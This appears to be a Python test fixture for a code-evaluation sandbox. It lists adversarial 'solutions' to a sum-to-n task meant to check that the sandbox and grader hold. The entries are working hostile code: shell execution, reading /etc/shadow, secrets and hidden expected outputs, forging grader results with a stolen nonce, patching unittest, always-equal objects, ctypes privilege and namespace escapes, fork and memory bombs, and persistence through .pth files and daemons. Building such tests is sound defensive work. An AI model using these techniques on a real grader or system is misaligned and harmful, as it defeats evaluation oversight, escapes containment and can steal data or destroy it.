"""Adversarial candidates for the code suite's security tests (task 'sum-to-n').

Each entry is a real attempt at escaping the sandbox or gaming a tier.
Placeholders filled in by the test: SENTINEL (a secret file outside the
working directory), SENTINEL_DIR, PORT / UPORT (a live TCP / UDP listener on
127.0.0.1), TASKS_FILE (the hidden tests and expected outputs), REPO.
"""

ATTACKS: list[tuple[str, str, str]] = [
    # (name, category, code)
    ("os-system", "process", "import os\nos.system('touch SENTINEL_DIR/pwned_system; cat SENTINEL')\n"),
    ("subprocess-run", "process", "import subprocess\nsubprocess.run(['sh', '-c', 'echo owned > SENTINEL'])\nprint(5050)\n"),
    ("subprocess-popen-cat", "process", "import subprocess\nprint(subprocess.run(['cat', 'SENTINEL'], capture_output=True).stdout)\n"),
    ("os-execv", "process", "import os\nos.execv('/bin/sh', ['sh', '-c', 'cat SENTINEL; touch SENTINEL_DIR/pwned_exec'])\n"),
    ("socket-tcp-connect", "network", "import socket\ns = socket.create_connection(('127.0.0.1', PORT), timeout=1)\ns.sendall(b'leak')\n"),
    ("socket-udp-send", "network", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'leak', ('127.0.0.1', UPORT))\n"),
    ("urllib-http", "network", "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:PORT/', timeout=1).read())\n"),
    ("socket-localhost-name", "network", "import socket\nsocket.create_connection(('localhost', PORT), timeout=1).sendall(b'leak')\n"),
    ("ctypes-raw-socket", "network",
     "import ctypes, struct\nlibc = ctypes.CDLL(None)\nfd = libc.socket(2, 1, 0)\n"
     "addr = struct.pack('!HH4s8x', 2, PORT, bytes([127, 0, 0, 1]))\naddr = struct.pack('H', 2) + addr[2:]\n"
     "print(libc.connect(fd, addr, 16), libc.send(fd, b'leak', 4, 0))\n"),
    ("read-sentinel", "filesystem", "print(open('SENTINEL').read())\n"),
    ("write-sentinel", "filesystem", "open('SENTINEL', 'w').write('owned')\n"),
    ("create-in-sentinel-dir", "filesystem", "open('SENTINEL_DIR/pwned_file', 'w').write('x')\n"),
    ("write-tmp", "filesystem", "open('/tmp/arl_pwned_tmp.txt', 'w').write('x')\n"),
    ("path-traversal-write", "filesystem", "open('../../arl_pwned_traversal.txt', 'w').write('x')\n"),
    ("read-etc-shadow", "filesystem", "print(open('/etc/shadow').read())\n"),
    ("walk-for-secrets", "filesystem",
     "import os\nfor root in ('/work', '/root', '/tmp', '/home'):\n    for d, _, fs in os.walk(root):\n"
     "        for f in fs:\n            print(os.path.join(d, f))\n"),
    ("fill-disk", "filesystem",
     "i = 0\nwhile True:\n    open(f'junk{i}', 'w').write('x' * 1_000_000)\n    i += 1\n"),
    ("huge-file", "filesystem", "open('big', 'w').write('x' * (1 << 30))\n"),
    ("read-hidden-tests", "hidden data", "import json\nprint(json.load(open('TASKS_FILE'))['tasks'][0]['expected_stdout'])\n"),
    ("read-hidden-tests-relative", "hidden data", "print(open('../../../..REPO/arl_flows/suites/code/tasks/tasks.json').read()[:200])\n"),
    ("read-parent-memory", "hidden data",
     "import os\nppid = os.getppid()\nprint(open(f'/proc/{ppid}/environ').read())\nprint(open(f'/proc/{ppid}/mem', 'rb').read(10))\n"),
    ("print-environment", "hidden data", "import os\nprint(dict(os.environ))\n"),
    ("sys-modules-json", "test runner",
     "import sys, types\nfake = types.ModuleType('json')\nfake.dumps = lambda *a, **k: '{\"status\": \"done\", \"results\": []}'\n"
     "sys.modules['json'] = fake\ndef solve(n):\n    return 0\n"),
    ("patch-json-dumps", "test runner",
     "import json\njson.dumps = lambda *a, **k: '{\"nonce\": \"x\", \"status\": \"done\", \"results\": []}'\n"
     "def solve(n):\n    return 0\n"),
    ("forge-result-fds", "test runner",
     "import os, json\nfor fd in range(3, 40):\n    try:\n"
     "        os.write(fd, (json.dumps({'status': 'done', 'results': [{'ok': True, 'value': 5050}] * 5}) + '\\n').encode())\n"
     "    except OSError:\n        pass\ndef solve(n):\n    return 0\n"),
    ("forge-with-stolen-nonce", "test runner",
     "import sys, os, json\nf = sys._getframe(0)\nwhile f.f_back is not None:\n    f = f.f_back\ng = f.f_globals\n"
     "if '_nonce' in g:\n    os.write(g['_fd'], (json.dumps({'nonce': g['_nonce'], 'status': 'done', 'error': '', "
     "'results': [{'ok': True, 'value': a[0]} for a in g['_cases']]}) + '\\n').encode())\n    os._exit(0)\n"
     "def solve(n):\n    return 0\n"),
    ("exit-before-tests", "test runner", "import os\nprint(5050)\nos._exit(0)\ndef solve(n):\n    return 0\n"),
    ("systemexit-at-import", "test runner", "print(5050)\nraise SystemExit(0)\n"),
    ("fake-unittest-output", "test runner", "print('Ran 5 tests in 0.001s')\nprint()\nprint('OK')\ndef solve(n):\n    return 0\n"),
    ("patch-unittest", "test runner",
     "import unittest\nunittest.TestCase.assertEqual = lambda *a, **k: None\nunittest.TestCase.run = lambda *a, **k: None\n"
     "def solve(n):\n    return -1\n"),
    ("patch-assertionerror", "test runner",
     "import builtins\nbuiltins.AssertionError = type('Never', (Exception,), {})\ndef solve(n):\n    return -1\n"),
    ("always-equal-object", "test runner",
     "class Anything:\n    def __eq__(self, other):\n        return True\ndef solve(n):\n    return Anything()\n"),
    ("always-equal-int", "test runner",
     "class Yes(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\ndef solve(n):\n    return Yes(0)\n"),
    ("dunder-import-os", "import tricks", "__import__('os').system('touch SENTINEL_DIR/pwned_dunder')\n"),
    ("importlib-subprocess", "import tricks",
     "import importlib\nimportlib.import_module('subprocess').run(['touch', 'SENTINEL_DIR/pwned_importlib'])\n"),
    ("builtins-open-via-subclasses", "import tricks",
     "for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == '_wrap_close':\n"
     "        c.__init__.__globals__['system']('cat SENTINEL; touch SENTINEL_DIR/pwned_subclasses')\n"),
    ("random-private-os", "import tricks", "import random\nrandom._os.system('touch SENTINEL_DIR/pwned_private')\n"),
    ("ctypes-system", "ctypes", "import ctypes\nctypes.CDLL(None).system(b'touch SENTINEL_DIR/pwned_ctypes; cat SENTINEL')\n"),
    ("ctypes-setuid-root", "ctypes",
     "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.setuid(0), libc.setgid(0))\nprint(open('SENTINEL').read())\n"),
    ("userns-umount", "ctypes",
     "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())\n"
     "print(libc.umount2(b'/tmp', 2), libc.umount2(b'REPO', 2))\nprint(open('TASKS_FILE').read()[:100])\n"),
    ("signal-ignore-xcpu", "signals",
     "import signal\nfor s in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGALRM):\n    signal.signal(s, signal.SIG_IGN)\n"
     "while True:\n    pass\n"),
    ("kill-parent", "signals", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"),
    ("kill-everything", "signals", "import os\nos.kill(-1, 9)\n"),
    ("fork-bomb", "resources", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    ("memory-bomb", "resources", "x = []\nwhile True:\n    x.append(' ' * 10_000_000)\n"),
    ("infinite-loop", "resources", "while True:\n    pass\n"),
    ("sleep-forever", "resources", "import time\ntime.sleep(3600)\n"),
    ("gigabytes-stdout", "resources", "import sys\nwhile True:\n    sys.stdout.write('x' * 1_000_000)\n"),
    ("gigabytes-stderr", "resources", "import sys\nwhile True:\n    sys.stderr.write('x' * 1_000_000)\n"),
    ("too-many-files", "resources", "fs = [open(f'f{i}', 'w') for i in range(10_000)]\n"),
    ("write-sitecustomize", "persistence",
     "import os, sysconfig\nfor d in ('.', '/tmp', sysconfig.get_paths()['purelib'], sysconfig.get_paths()['stdlib']):\n"
     "    for name in ('sitecustomize.py', 'usercustomize.py'):\n        try:\n"
     "            open(os.path.join(d, name), 'w').write('print(5050)')\n        except OSError as e:\n            print(d, e)\n"),
    ("write-pth", "persistence",
     "import sysconfig\nfor key in ('purelib', 'platlib'):\n    try:\n"
     "        open(sysconfig.get_paths()[key] + '/evil.pth', 'w').write('import os; os.system(\"touch /tmp/arl_pth\")')\n"
     "    except OSError as e:\n        print(e)\n"),
    ("background-daemon", "persistence",
     "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(1.5)\n"
     "        open('SENTINEL_DIR/pwned_late', 'w').write('x')\n    os._exit(0)\nprint(5050)\n"),
    ("background-popen", "persistence",
     "import subprocess\nsubprocess.Popen(['sleep', '60'], start_new_session=True)\nprint(5050)\n"),
]
